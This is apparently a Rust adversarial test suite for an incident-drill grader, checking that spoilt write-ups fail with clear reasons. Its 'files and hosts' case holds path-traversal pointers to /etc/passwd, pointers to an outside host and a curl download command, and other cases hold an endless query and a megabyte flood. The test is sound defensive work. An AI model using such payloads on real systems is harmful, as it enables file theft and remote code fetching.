//! Write-ups that try to get a grade they did not earn, or to do harm on the way, against a real run:
//! none passes, none crashes, and each verdict says why in sentences.

use std::net::TcpListener;
use std::time::{Duration, Instant};

use libtest_mimic::Trial;
use serde_json::Value;
use toml::{Table, toml};

use crate::drills::{self, Case};
use crate::support::Drill;

/// For grading again: a backend starts over the record, and looks everything up.
const GRADED_WITHIN: Duration = Duration::from_secs(120);

/// One write-up: how the right one is spoilt, and what the verdict must say of it.
struct Attempt {
    name: &'static str,
    spoil: fn(&mut Table, &str),
    says: &'static [&'static str],
}

pub(crate) fn trials() -> Vec<Trial> {
    let name = "adversarial::no_write_up_passes_a_drill_that_it_does_not_answer";
    vec![Trial::test(name, || {
        attempts();
        Ok(())
    })]
}

fn attempts() {
    let case = Case::of("slow-checkout");
    let mut drill = drills::start(case, &[]);
    let graded = drills::to_verdict(case, "right", &mut drill, refuses_a_flood);
    let right = graded.facts.fill(&case.write_ups("right")[0].1);
    let head = right.split("+++").nth(1).expect("the head of a write-up");
    let head: Table = head.parse().expect("the right write-up can be read");
    let outside = TcpListener::bind("127.0.0.1:0").expect("loopback has a port");
    outside.set_nonblocking(true).expect("a socket's flag");
    let addr = outside.local_addr().expect("it is bound").to_string();
    for attempt in &ATTEMPTS {
        let mut spoilt = head.clone();
        (attempt.spoil)(&mut spoilt, &addr);
        check(&drill, attempt, &spoilt);
    }
    let knock = outside.accept();
    assert!(knock.is_err(), "another host was reached: {knock:?}");
}

/// A write-up of a megabyte is refused, and the drill goes on.
fn refuses_a_flood(drill: &mut Drill) {
    let text = format!("+++\nsummary = \"{}\"\n+++\n", "x".repeat(1 << 20));
    let file = drill.state().join("flood.md");
    std::fs::write(&file, text).expect("a write-up");
    let output = drill.cli(&["submit", file.to_str().expect("a path")]);
    let problem = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(!matches!(output.status.code(), Some(0 | 10)), "{problem}");
    assert!(problem.contains("bytes; the limit is 262144"), "{problem}");
    assert_eq!(drill.json(&["status"])["phase"], "paged", "{problem}");
}

/// The record of the run does not pass it, in bearable time, and says why in sentences.
fn check(drill: &Drill, attempt: &Attempt, head: &Table) {
    let name = attempt.name;
    let file = drill.state().join(format!("{}.md", name.replace(' ', "-")));
    std::fs::write(&file, format!("+++\n{head}+++\n")).expect("a write-up");
    let run = drill.ready["run"].as_str().expect("a run id");
    let begun = Instant::now();
    let file = file.to_str().expect("a path");
    let output = drill.cli(&["submit", file, "--run", run, "--json"]);
    let took = begun.elapsed();
    let said = String::from_utf8_lossy(&output.stdout).into_owned();
    let problem = String::from_utf8_lossy(&output.stderr).into_owned();
    assert_eq!(output.status.code(), Some(10), "{name}: {said}{problem}");
    assert!(took < GRADED_WITHIN, "{name} took {took:?}");
    let submitted: Value = serde_json::from_str(&said).expect("a verdict");
    for list in ["items", "conditions"] {
        for one in submitted["verdict"][list].as_array().expect("a list") {
            let why = one["why"].as_str().expect("a reason");
            let reads = why.ends_with('.') && !why.ends_with("..") && why.len() < 900;
            assert!(reads && why.len() > 10, "{name}: {why}");
        }
    }
    for part in attempt.says {
        assert!(said.contains(part), "{name} does not say `{part}`: {said}");
    }
    assert!(!said.contains("root:"), "{name}: a file was read: {said}");
}

static ATTEMPTS: [Attempt; 12] = [
    Attempt {
        name: "empty",
        spoil: |head, _| head.clear(),
        says: &[
            "`verdict` is missing",
            "No cause is named.",
            "There are no pointers.",
        ],
    },
    Attempt {
        name: "every field unknown",
        spoil: |head, _| *head = unknown(),
        says: &[
            "You say that the cause is not known.",
            "0 of 6 pointers resolve",
            "cannot be read",
        ],
    },
    Attempt {
        name: "another run",
        spoil: |head, _| {
            in_the_cause(
                head,
                &[
                    "trace:4bf92f3577b34da6a3ce929d0e0e4736",
                    "promql:up@2026-01-01T00:00:00Z",
                    "deploy:inventory@2025.1.1",
                    "heap:monday..tuesday",
                ],
            );
        },
        says: &[
            "this run has no trace `4bf92f3577b34da6a3ce929d0e0e4736`",
            "is outside this run",
            "this run has no deploy `inventory@2025.1.1`",
            "None of the cause's 4 pointers shows a difference from the baseline.",
        ],
    },
    Attempt {
        name: "what fires",
        spoil: |head, _| {
            in_the_cause(
                head,
                &[
                    r#"promql:ALERTS{alertstate="firing", x!="db_client_operation_duration_seconds SELECT price"}@page"#,
                    "promql:up{service=\"inventory\"} # db_client_operation_duration_seconds_sum SELECT price@page",
                    "deploy:inventory@2026.11.8",
                    "promql:timestamp(up{service=\"inventory\"})@page",
                ],
            );
        },
        says: &[
            "None of the cause's 4 pointers shows a difference from the baseline.",
            "`ALERTS` says what ran, what fired",
        ],
    },
    Attempt {
        name: "what every slow page shows",
        spoil: |head, _| {
            in_the_cause(
                head,
                &[
                    "promql:histogram_quantile(0.9, sum by (le) (rate(http_server_request_duration_seconds_bucket{service=\"gateway\", http_route=\"/v1/orders\"}[20s])))@page",
                ],
            );
        },
        says: &["What you show would look the same in"],
    },
    // The dashboard of queries is not among them: here it shows the finding itself.
    Attempt {
        name: "wide dashboards",
        spoil: |head, _| {
            let [requests, _, calls, origins] = scenario::references::WIDE_DASHBOARDS;
            let wide = [requests, calls, origins].map(|expr| format!("promql:{expr}@page"));
            in_the_cause(head, &wide.each_ref().map(String::as_str));
        },
        says: &[
            "What you show would look the same in",
            "such a pointer excludes nothing",
        ],
    },
    Attempt {
        name: "right cause without evidence",
        spoil: |head, _| everywhere(head, &[]),
        says: &["so it could be a guess.", "The cause has no evidence."],
    },
    Attempt {
        name: "right evidence and wrong cause",
        spoil: |head, _| {
            set(
                head,
                "cause",
                &[("component", "gateway"), ("mechanism", "pool-too-small")],
            )
        },
        says: &[
            "Neither component nor mechanism is right.",
            "you were wrong: Brier score 0.81",
        ],
    },
    Attempt {
        name: "the victim",
        spoil: |head, _| set(head, "cause", &[("component", "checkout")]),
        says: &["That is a victim, not the cause: Checkout only waits"],
    },
    Attempt {
        name: "the trigger as the cause",
        spoil: |head, _| set(head, "cause", &[("mechanism", "defective-release")]),
        says: &["Your cause is close, but it is not the root cause."],
    },
    Attempt {
        name: "files and hosts",
        spoil: |head, outside| {
            let pointers = [
                "trace:../../etc/passwd".to_owned(),
                format!("trace:http://{outside}/"),
                format!("promql:http://{outside}/api/v1/query?query=up@page"),
                format!("promql:up&time=0#@{outside}/@page"),
                "heap:/etc/passwd..x".to_owned(),
                "heap:early../../../../../../etc/passwd".to_owned(),
                "log:../../../../../etc/passwd".to_owned(),
                "deploy:../../etc/passwd".to_owned(),
            ];
            in_the_cause(head, &pointers.each_ref().map(String::as_str));
            set(head, "alert", &[("expr", &format!("http://{outside}/"))]);
            let command = format!("curl -o /tmp/x http://{outside}/");
            set(head, "reproduction", &[("command", &command)]);
        },
        says: &[
            "`/etc/passwd` is not a snapshot name",
            "this run has no deploy `../../etc/passwd`",
            "no log line matches",
            "It cannot be used: Prometheus refused",
            "is not a `firedrill request …`.",
        ],
    },
    Attempt {
        name: "for ever",
        spoil: |head, _| {
            const ENDLESS: &str = "max_over_time(max_over_time(max_over_time(sum(rate(http_server_request_duration_seconds_bucket[5m]))[1h:1s])[6h:1s])[6h:1s])";
            let pointers = [
                format!("promql:{ENDLESS}@page"),
                format!("promql:{ENDLESS} + 1@page"),
            ];
            in_the_cause(head, &pointers.each_ref().map(String::as_str));
            set(head, "alert", &[("expr", ENDLESS)]);
        },
        says: &[
            "It cannot be used: Prometheus",
            "pointers shows a difference from the baseline",
        ],
    },
];

/// A write-up that fills in everything and says nothing.
fn unknown() -> Table {
    toml! {
        verdict = "incident"
        summary = "unknown"
        [impact]
        description = "unknown"
        evidence = ["unknown"]
        [detection]
        by = "unknown"
        evidence = ["unknown"]
        [[timeline]]
        what = "unknown"
        evidence = ["unknown"]
        [trigger]
        kind = "unknown"
        deploy = "unknown"
        evidence = ["unknown"]
        [cause]
        component = "unknown"
        mechanism = "unknown"
        evidence = ["unknown"]
        [[ruled_out]]
        hypothesis = "unknown"
        because = "unknown"
        evidence = ["unknown"]
        [mitigation]
        action = "unknown"
        [alert]
        expr = "unknown"
    }
}

/// Puts these pointers into the cause, and none anywhere else.
fn in_the_cause(head: &mut Table, pointers: &[&str]) {
    everywhere(head, &[]);
    let cause = head["cause"].as_table_mut().expect("a table");
    cause.insert("evidence".to_owned(), pointers.to_vec().into());
}

/// Puts these pointers wherever there are any.
fn everywhere(head: &mut Table, pointers: &[&str]) {
    for (_, value) in head.iter_mut() {
        let tables = match value {
            toml::Value::Table(table) => vec![table],
            toml::Value::Array(list) => list
                .iter_mut()
                .filter_map(|one| one.as_table_mut())
                .collect(),
            _ => Vec::new(),
        };
        for table in tables
            .into_iter()
            .filter(|table| table.contains_key("evidence"))
        {
            table.insert("evidence".to_owned(), pointers.to_vec().into());
        }
    }
}

fn set(head: &mut Table, section: &str, words: &[(&str, &str)]) {
    let section = head[section].as_table_mut().expect("a table");
    for (key, word) in words {
        section.insert((*key).to_owned(), (*word).into());
    }
}
